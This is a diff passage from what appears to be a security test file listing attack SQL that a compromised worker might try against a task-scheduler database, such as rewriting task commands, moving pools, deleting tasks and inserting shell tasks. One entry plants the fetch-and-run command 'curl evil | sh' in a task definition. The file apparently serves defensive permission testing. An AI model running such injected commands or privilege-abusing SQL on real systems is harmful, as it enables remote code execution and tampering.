@@ -113,7 +113,7 @@ const WORKER_ATTACKS = {
   'changes a definition': `UPDATE task SET definition = jsonb_set(definition, '{handler,command}', '"curl evil | sh"')`,
   'says that a definition is of code': `UPDATE task SET source = 'code'`,
   'moves a task to its pool': `UPDATE task SET pool = 'mine'`,
-  'deletes a task': 'UPDATE task SET deleted_at = now(), next_run_at = NULL',
+  'deletes a task': 'UPDATE task SET deleted_at = now()',
   'makes a task with a command': `INSERT INTO task (name, definition, schedule, key_template, key_limit, overlap, pool, source, effective_at)
     VALUES ('x', '{"handler": {"type": "shell", "command": "id"}}', '{"kind": "manual"}', 'x', 1, 'skip', 'default', 'code', now())`,
   'makes a task of code in the name of people': `INSERT INTO task (name, definition, schedule, key_template, key_limit, overlap, pool, source, effective_at)
